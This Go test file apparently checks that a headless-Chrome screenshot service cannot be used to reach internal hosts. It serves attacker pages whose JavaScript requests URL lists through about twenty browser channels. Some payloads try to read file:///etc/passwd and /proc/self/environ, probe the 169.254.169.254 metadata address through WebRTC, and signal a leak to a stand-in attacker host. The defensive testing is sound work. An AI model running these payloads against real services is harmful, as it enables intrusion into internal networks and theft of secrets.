package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// attacks are pages that make a browser ask for every URL of the list U, each in
// its own way; what a page asks for last, B, is public and must be reached, or
// the way is none. U is a part of the whole list: see attacker.parts.
func attacks() map[string]string {
	return map[string]string{
		"image":         `for (const u of [...U, B]) { const i = new Image(); i.src = u; document.body.append(i); }`,
		"fetch":         `for (const u of [...U, B]) fetch(u, { mode: 'no-cors' }).catch(() => {});`,
		"post":          `for (const u of [...U, B]) fetch(u, { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {});`,
		"xhr":           `for (const u of [...U, B]) try { const x = new XMLHttpRequest(); x.open('GET', u); x.send(); } catch {}`,
		"beacon":        `for (const u of [...U, B]) try { navigator.sendBeacon(u, 'x'); } catch {}`,
		"websocket":     `for (const u of [...U, B]) try { new WebSocket(u.replace(/^http/, 'ws')); } catch {}`,
		"eventsource":   `for (const u of [...U, B]) try { new EventSource(u); } catch {}`,
		"iframe":        `for (const u of [...U, B]) { const f = document.createElement('iframe'); f.src = u; document.body.append(f); }`,
		"form":          `for (const u of [...U, B]) { const n = 'f' + Math.random(), f = document.createElement('iframe'), g = document.createElement('form'); f.name = n; g.target = n; g.action = u; g.method = 'post'; document.body.append(f, g); g.submit(); }`,
		"css":           `for (const u of [...U, B]) { const d = document.createElement('div'); d.style.backgroundImage = 'url(' + JSON.stringify(u) + ')'; d.textContent = 'x'; document.body.append(d); }`,
		"stylesheet":    `for (const u of [...U, B]) { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = u; document.head.append(l); }`,
		"font":          `for (const u of [...U, B]) new FontFace('f', 'url(' + JSON.stringify(u) + ')').load().catch(() => {});`,
		"script":        `for (const u of [...U, B]) { const s = document.createElement('script'); s.src = u; document.head.append(s); }`,
		"video":         `for (const u of [...U, B]) { const v = document.createElement('video'); v.preload = 'auto'; v.src = u; document.body.append(v); }`,
		"prefetch":      `for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload']) for (const u of [...U, B]) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = u; document.head.append(l); }`,
		"redirect":      `for (const u of [...U, B]) fetch('/redirect?to=' + encodeURIComponent(u), { mode: 'no-cors' }).catch(() => {});`,
		"worker":        `const w = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => { for (const u of e.data) fetch(u, { mode: "no-cors" }).catch(() => {}); }']))); w.postMessage([...U, B]);`,
		"serviceworker": `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage([...U, B]));`,
	}
}

// quiet are attacks by which nothing at all may be reached.
func quiet() map[string]string {
	return map[string]string{
		"open":   `for (const u of [...U, B]) try { window.open(u); } catch {}`,
		"webrtc": `const servers = ['10.0.0.1', '127.0.0.1', '169.254.169.254', '93.184.215.14'].flatMap((h) => ['stun:' + h + ':3478', 'turn:' + h + ':3478']).map((urls) => ({ urls, username: 'u', credential: 'c' })); for (const s of servers) { const p = new RTCPeerConnection({ iceServers: [s] }); p.onicecandidate = (e) => { if (e.candidate) { document.body.append('LEAK ' + e.candidate.candidate); fetch('/leak'); } }; p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`,
		"schemes": `for (const u of ['file:///etc/passwd', 'file:///proc/self/environ', 'chrome://version/', 'view-source:http://127.0.0.1/', 'devtools://devtools/bundled/inspector.html', 'ftp://127.0.0.1/', 'chrome-extension://x/', 'filesystem:http://127.0.0.1/', 'about:version']) {
			const f = document.createElement('iframe'); f.src = u; f.onload = () => { try { if (f.contentDocument.body.textContent.includes('root:')) fetch('/leak'); } catch {} }; document.body.append(f);
			fetch(u).then((r) => r.text()).then((text) => text.includes('root:') && fetch('/leak')).catch(() => {}); try { window.open(u); } catch {} }
			setTimeout(() => { location = 'file:///etc/passwd'; }, 10);`,
	}
}

// attacker serves the attacks and notes what was reached.
type attacker struct {
	list    []string
	mu      sync.Mutex
	news    *sync.Cond
	reached map[string]bool // by host
	leaked  bool
}

func newAttacker(list []string) *attacker {
	a := &attacker{list: list, reached: map[string]bool{}}
	a.news = sync.NewCond(&a.mu)
	return a
}

// parts is the list in pieces that one page can ask for at once by a way. The
// ways that are no more than another word for one of the others take a part of
// it in all.
func (a *attacker) parts(way string) [][]string {
	most, list := 400, a.list
	switch way {
	case "iframe": // Chromium shows an error page in each
		most = 30
	case "video", "open":
		most = 80
	case "form":
		most = 20
	case "beacon": // Chromium bounds what beacons may carry
		most = 60
	case "websocket": // it bounds these, too
		most = 60
	case "prefetch": // five requests each
		most = 300
	}
	switch way {
	case "post", "xhr", "beacon", "eventsource", "form", "font", "script", "video", "stylesheet", "worker", "open":
		list = slices.Collect(func(yield func(string) bool) {
			for i := len(way) % 5; i < len(a.list) && yield(a.list[i]); i += 5 {
			}
		})
	case "webrtc", "schemes":
		list = list[:1] // they have lists of their own
	}
	return slices.Collect(slices.Chunk(list, most))
}

// wait returns when host was reached, or ctx has ended.
func (a *attacker) wait(ctx context.Context, host string) {
	defer context.AfterFunc(ctx, func() {
		a.mu.Lock()
		defer a.mu.Unlock()
		a.news.Broadcast()
	})()
	a.mu.Lock()
	defer a.mu.Unlock()
	for !a.reached[host] && ctx.Err() == nil {
		a.news.Wait()
	}
}

func (a *attacker) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	host, _, _ := strings.Cut(r.Host, ":")
	rw.Header().Set("Content-Type", "text/html; charset=utf-8")
	a.mu.Lock()
	if !a.reached[host] {
		a.reached[host] = true
		a.news.Broadcast()
	}
	a.leaked = a.leaked || r.URL.Path == "/leak"
	a.mu.Unlock()
	name := strings.TrimPrefix(r.URL.Path, "/")
	script := attacks()[name] + quiet()[name]
	switch {
	case name == "hold": // the page stays until its last request has come, or none can be waited for
		way, ctx, patience := r.URL.Query().Get("name"), r.Context(), 20*time.Second
		if quiet()[way] != "" {
			patience = time.Second
		}
		ctx, cancel := context.WithTimeout(ctx, patience)
		defer cancel()
		a.wait(ctx, "b"+r.URL.Query().Get("part")+"-"+way+".example.com")
	case name == "redirect" && r.URL.Query().Has("to"):
		rw.Header()["Location"] = []string{r.URL.Query().Get("to")}
		rw.WriteHeader(http.StatusFound)
	case name == "sw.js":
		rw.Header().Set("Content-Type", "text/javascript")
		_, _ = rw.Write([]byte(`onactivate = (e) => e.waitUntil(clients.claim()); onmessage = (e) => e.waitUntil(Promise.allSettled(e.data.map((u) => fetch(u, { mode: 'no-cors' }))));`))
	case script != "":
		part, _ := strconv.Atoi(r.URL.Query().Get("part"))
		list, _ := json.Marshal(a.parts(name)[part])
		_, _ = fmt.Fprintf(rw, `<!doctype html><title>%s</title><body>%s<script>const U = %s, B = 'http://b%d-%s.example.com/';
fetch('/hold?part=%d&name=%s'); %s</script>`, name, strings.Repeat("<p>a page like any other", 20), list, part, name, part, name, script)
	default:
		_, _ = rw.Write([]byte("<!doctype html><title>Reached</title><p>You reached it"))
	}
}

// has tells whether host was reached.
func (a *attacker) has(host string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.reached[host]
}

// run lets one attack happen.
func (a *attacker) run(t *testing.T, w *world, client *server, name string) {
	t.Helper()
	for part := range a.parts(name) {
		url := fmt.Sprintf("http://attacker.example.com/%s?part=%d", name, part)
		if name == "serviceworker" {
			url = fmt.Sprintf("http://localhost:3000/%s?part=%d", name, part)
		}
		reached := fmt.Sprintf("b%d-%s.example.com", part, name)
		for tries := 3; tries > 0 && !a.has(reached); tries-- { // Chromium lets sockets wait the longer, the more have failed
			var got struct{ Status int }
			err := client.call(t.Context(), "screenshot", map[string]any{"url": url, "full_page": false}, &got, nil)
			if (err != nil || got.Status != 200) && name != "schemes" { // where that leads, nothing is to be seen
				t.Errorf("part %d: %v %+v", part, err, got)
			}
			if attacks()[name] == "" {
				break
			}
		}
		if attacks()[name] != "" && !a.has(reached) {
			t.Errorf("part %d: nothing was reached: the attack is none", part)
		}
	}
	w.checkSentByChrome(t, name)
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.leaked {
		t.Error("something leaked")
	}
}
